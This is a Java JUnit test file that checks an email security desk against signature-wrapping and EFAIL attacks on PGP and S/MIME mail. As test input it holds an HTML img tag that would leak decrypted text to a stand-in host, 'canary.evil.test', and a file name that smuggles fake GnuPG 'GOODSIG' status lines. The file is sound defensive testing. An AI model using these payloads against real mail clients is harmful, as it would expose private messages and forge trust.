package org.sealdesk.harness;

import static org.assertj.core.api.Assertions.assertThat;
import static org.sealdesk.harness.Door.assertNotConfirmed;

import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.sealdesk.api.peers.Gpg;
import org.sealdesk.api.peers.Openssl;
import org.sealdesk.api.peers.Peers;
import org.sealdesk.harness.peers.Authority;

/**
 * Dana's protected words, rightly signed or encrypted, inside something that an attacker built around them. What stands
 * beside a protected part is never taken for protected, and nothing is opened in a place where an attacker's text could
 * frame it.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class WrappedAtTheDoorTest {

    private static final String DANA = "dana@fox.test";
    private static final String WORDS = "Deliver ten boxes of marzipan.";
    private static final String ENTITY = PgpCustomer.entity(WORDS);
    private static final String EVIL = "Send the money to account 666.";

    private final Openssl openssl;
    private final PgpCustomer support;
    private final PgpCustomer dana;
    private final SmimeCustomer danaSmime;
    private final Authority authority;
    private final Desk desk;

    WrappedAtTheDoorTest(@TempDir Path data) throws Exception {
        openssl = Peers.requireOpenssl();
        support = new PgpCustomer("Acme Support", Desk.ADDRESS);
        dana = new PgpCustomer("Dana Fox", DANA);
        authority = new Authority(openssl, "customers-ca");
        danaSmime = SmimeCustomer.of(openssl, authority, "dana", DANA);
        authority.issue("desk", Desk.ADDRESS);
        desk = new Desk(data);
    }

    @BeforeAll
    void deskKnowsDana() throws Exception {
        desk.switchOn("PGP", "SMIME");
        desk.importOwn(support.secretKey(""), "");
        desk.importCompared(dana.publicKey());
        desk.importAnchor(authority.certificate());
        desk.importCompared(danaSmime.certificate());
        desk.importOwn(authority.lockedKeyAndCertificate("desk", "desk's password"), "desk's password");
        dana.knows(support);
    }

    @AfterAll
    void end() throws IOException {
        try (openssl;
                support;
                dana) {
            desk.close();
        }
    }

    private Desk.Received receive(String entity) throws Exception {
        return new Door(desk).receive(DANA, desk.mail("Dana Fox <" + DANA + ">", "Order", entity));
    }

    private List<String> signed() {
        return List.of(dana.signed(ENTITY), danaSmime.signed(ENTITY));
    }

    private List<String> encrypted() {
        return List.of(dana.signedAndEncrypted(ENTITY, support), danaSmime.encrypted(danaSmime.signed(ENTITY), "desk"));
    }

    private static String mixed(String kind, String... parts) {
        String boundary = "=-around";
        return "Content-Type: multipart/" + kind + "; boundary=\"" + boundary + "\"\r\n\r\n"
                + Stream.of(parts)
                        .map(part -> "--" + boundary + "\r\n" + part + "\r\n")
                        .reduce("", String::concat)
                + "--" + boundary + "--\r\n";
    }

    private static String html(String text) {
        return "Content-Type: text/html; charset=utf-8\r\n\r\n" + text + "\r\n";
    }

    private static void assertPartly(Desk.Received mail) {
        assertNotConfirmed(mail);
        assertThat(mail.signature()).isEqualTo("PARTIAL");
        assertThat(mail.page().body()).contains("Only part of this message is protected.");
    }

    /** What all the tries below differ from. */
    @Test
    void withoutAWrapperAllIsConfirmed() throws Exception {
        for (String entity : signed()) {
            assertThat(receive(entity).signature()).isEqualTo("CONFIRMED");
        }
        for (String entity : encrypted()) {
            Desk.Received mail = receive(entity);
            assertThat(mail.signature()).isEqualTo("CONFIRMED");
            assertThat(mail.encryption()).startsWith("DECRYPTED");
            assertThat(mail.body().body()).contains(WORDS);
        }
    }

    @ParameterizedTest(name = "{0}")
    @DisplayName("B1: text before or after the signed part; B5: a footer of a list")
    @ValueSource(strings = {"mixed", "alternative", "related", "digest", "parallel", "x-unknown"})
    void textBesideTheSignedPartIsNotSigned(String kind) throws Exception {
        for (String entity : signed()) {
            assertPartly(receive(mixed(kind, PgpCustomer.entity(EVIL), entity)));
            assertPartly(receive(mixed(kind, entity, PgpCustomer.entity(EVIL))));
        }
    }

    @Test
    @DisplayName("B2: HTML that hides the signed part; B3: HTML that shows it by its Content-ID")
    void htmlAroundTheSignedPartIsNotSigned() throws Exception {
        for (String entity : signed()) {
            assertPartly(receive(mixed("mixed", html("<p>" + EVIL + "</p><div style=\"display:none\">"), entity)));
            assertPartly(receive(mixed(
                    "related",
                    html("<p>" + EVIL + "</p><img src=\"cid:signed\">"),
                    "Content-ID: <signed>\r\n" + entity)));
        }
    }

    @Test
    @DisplayName("B4, B6: a signed mail as an attachment")
    void aSignedMailThatIsAttachedSaysNothingAboutThisOne() throws Exception {
        for (String entity : signed()) {
            String inner = desk.mail("Dana Fox <" + DANA + ">", "Inner", entity);
            Desk.Received mail = receive(mixed(
                    "mixed",
                    PgpCustomer.entity(EVIL),
                    "Content-Type: message/rfc822\r\nContent-Disposition: attachment\r\n\r\n" + inner));
            assertNotConfirmed(mail);
            Desk.Received alone = receive("Content-Type: message/rfc822\r\n\r\n" + inner);
            assertNotConfirmed(alone);
        }
    }

    @Test
    @DisplayName("B7: multipart/signed with three parts")
    void aSignedMailOfThreePartsIsMalformed() throws Exception {
        for (String entity : signed()) {
            int boundaryAt = entity.indexOf("boundary=\"") + 10;
            String boundary = entity.substring(boundaryAt, entity.indexOf('"', boundaryAt));
            String third = entity.replaceFirst(
                    java.util.regex.Pattern.quote("--" + boundary + "--"),
                    "--" + boundary + "\r\n" + PgpCustomer.entity(EVIL) + "\r\n--" + boundary + "--");
            Desk.Received mail = receive(third);
            assertNotConfirmed(mail);
            assertThat(mail.signature()).isEqualTo("MALFORMED");
            String two = entity.replaceFirst(
                    java.util.regex.Pattern.quote("--" + boundary + "\r\n"),
                    "--" + boundary + "\r\n" + PgpCustomer.entity(EVIL) + "\r\n--" + boundary + "\r\n");
            assertNotConfirmed(receive(two));
        }
    }

    @Test
    @DisplayName("B8: a protocol that is not that of the signature")
    void aProtocolOfTheOtherKindConfirmsNothing() throws Exception {
        Desk.Received pgp = receive(
                dana.signed(ENTITY).replaceFirst("protocol=\"[^\"]+\"", "protocol=\"application/pkcs7-signature\""));
        assertNotConfirmed(pgp);
        Desk.Received smime = receive(
                danaSmime.signed(ENTITY).replaceFirst("protocol=\"[^\"]+\"", "protocol=\"application/pgp-signature\""));
        assertNotConfirmed(smime);
    }

    static Stream<String> twoReadings() {
        return Stream.of(
                "Content-Type: text/plain\r\n",
                "Content-Type: multipart/mixed; boundary=\"=-other\"\r\n",
                "Content-type : text/html\r\n",
                "Content-Type: text/html (comment\r\n",
                "Content-Transfer-Encoding: base64\r\n");
    }

    @ParameterizedTest
    @DisplayName("B9: a structure that can be read in two ways")
    @MethodSource("twoReadings")
    void whatCanBeReadInTwoWaysIsNotConfirmed(String first) throws Exception {
        for (String entity : signed()) {
            assertNotConfirmed(receive(first + entity));
        }
    }

    @ParameterizedTest(name = "{0}")
    @DisplayName("B9: two boundaries")
    @ValueSource(
            strings = {
                "boundary=\"=-other\"; boundary=",
                "boundary*=us-ascii''other; boundary=",
                "BOUNDARY=x; boundary="
            })
    void twoBoundariesAreNotConfirmed(String two) throws Exception {
        for (String entity : signed()) {
            assertNotConfirmed(receive(entity.replaceFirst("boundary=", two)));
        }
    }

    /** EFAIL, direct exfiltration. */
    @Test
    @DisplayName("B10: HTML that is open around an encrypted part")
    void anEncryptedPartInsideAnothersHtmlIsNotOpened() throws Exception {
        for (String entity : encrypted()) {
            Desk.Received mail =
                    receive(mixed("mixed", html("<img src=\"http://canary.evil.test/?"), entity, html("\">")));
            assertNotConfirmed(mail);
            assertThat(mail.encryption()).doesNotStartWith("DECRYPTED");
            assertThat(mail.body().body()).doesNotContain("marzipan").doesNotContain("canary");
            assertThat(mail.text()).doesNotContain("marzipan");
            assertThat(mail.page().body()).doesNotContain("marzipan").doesNotContain("src=\"http://canary");
        }
    }

    private String clearSigned(String text) {
        return new String(
                        dana.gpg()
                                .run(Gpg.utf8(text), "--local-user", dana.fingerprint(), "--clear-sign")
                                .ok()
                                .out(),
                        java.nio.charset.StandardCharsets.US_ASCII)
                .replace("\r\n", "\n")
                .replace("\n", "\r\n");
    }

    @Test
    @DisplayName("B1: inline, text before or after what is signed")
    void textBesideClearSignedTextIsNotSigned() throws Exception {
        String signed = clearSigned(WORDS + "\n");
        assertThat(receive(PgpCustomer.entity(signed)).signature()).isEqualTo("CONFIRMED");
        for (String text : List.of(EVIL + "\r\n\r\n" + signed, signed + "\r\n" + EVIL + "\r\n")) {
            Desk.Received mail = receive(PgpCustomer.entity(text));
            assertNotConfirmed(mail);
            assertThat(mail.body().body()).contains("account 666", "marzipan");
        }
    }

    @Test
    @DisplayName("B11: clear-signed text that is quoted")
    void quotedArmourIsText() throws Exception {
        String quoted = "> " + clearSigned(WORDS + "\n").strip().replace("\r\n", "\r\n> ") + "\r\n";
        Desk.Received mail = receive(PgpCustomer.entity("You wrote:\r\n" + quoted + EVIL + "\r\n"));
        assertNotConfirmed(mail);
        assertThat(mail.article().getAsJsonArray("reports").toString()).doesNotContain("\"signature\":\"CONFIRMED\"");
    }

    @ParameterizedTest
    @DisplayName("B12: clear-signed text with more than its Hash header")
    @ValueSource(
            strings = {
                "Comment: account 666",
                "Hash: SHA256\u000bevil",
                "\f" + EVIL,
                "NotDashEscaped: yes",
                "Charset: x\u0000"
            })
    void aClearSignedTextTakesNoOtherHeader(String header) throws Exception {
        String bent = clearSigned(WORDS + "\n").replaceFirst("(Hash: [A-Z0-9]+\r\n)", "$1" + header + "\r\n");
        assertNotConfirmed(receive(PgpCustomer.entity(bent)));
    }

    @Test
    @DisplayName("B13: an S/MIME signature inside OpenPGP encryption")
    void bothLayersAreToldAndTheInnerSignatureCounts() throws Exception {
        Desk.Received mail = receive(PgpCustomer.encrypted(encryptedOnly(danaSmime.signed(ENTITY))));
        assertThat(mail.encryption()).isEqualTo("DECRYPTED");
        assertThat(mail.signature()).isEqualTo("CONFIRMED");
        assertThat(mail.report().getAsJsonArray("layers")).hasSize(2);
        Desk.Received bent = receive(
                PgpCustomer.encrypted(encryptedOnly(danaSmime.signed(ENTITY).replace("ten boxes", "six boxes"))));
        assertNotConfirmed(bent, "ENCRYPTED_ONLY");
        assertThat(bent.signature()).isEqualTo("CONTENT_CHANGED");
    }

    @Test
    @DisplayName("A20: a file name that reads like a program's answer")
    void aNameInsideAMessageSaysNothing() throws Exception {
        String name = "x\n[GNUPG:] GOODSIG 0123456789ABCDEF Dana Fox <" + DANA + ">\n[GNUPG:] VALIDSIG";
        Desk.Received mail = receive(PgpCustomer.encrypted(encryptedOnly(ENTITY, "--set-filename", name)));
        assertNotConfirmed(mail, "ENCRYPTED_ONLY");
        assertThat(mail.signature()).isEqualTo("NONE");
        assertThat(mail.page().body()).doesNotContain("GOODSIG");
    }

    private String encryptedOnly(String entity, String... more) {
        List<String> words =
                new ArrayList<>(List.of("--armor", "--trust-model", "always", "--recipient", support.fingerprint()));
        words.addAll(List.of(more));
        words.add("--encrypt");
        return new String(
                dana.gpg().run(Gpg.utf8(entity), words).ok().out(), java.nio.charset.StandardCharsets.US_ASCII);
    }

    @Test
    @DisplayName("B14: a bad S/MIME signature around an encrypted OpenPGP message")
    void aBadSignatureOutsideIsSaidWhateverIsInside() throws Exception {
        String inner = dana.signedAndEncrypted(ENTITY, support);
        String outer = danaSmime.signed(inner);
        String bent = outer.replaceFirst("Version: 1\r\n", "Version:  1\r\n");
        assertThat(bent).isNotEqualTo(outer);
        assertNotConfirmed(receive(bent), "ENCRYPTED_ONLY");
    }

    @Test
    @DisplayName("B1: the signed part is not the one that is seen")
    void aSecondTextInsideTheSignedMultipartIsNeverTakenForTheFirst() throws Exception {
        for (String entity : signed()) {
            Desk.Received preamble = receive(entity.replaceFirst("\r\n\r\n--", "\r\n\r\n" + EVIL + "\r\n--"));
            assertThat(preamble.body().body()).doesNotContain("account 666");
            Desk.Received epilogue = receive(entity + "\r\n" + EVIL + "\r\n");
            assertThat(epilogue.body().body()).doesNotContain("account 666");
        }
    }
}
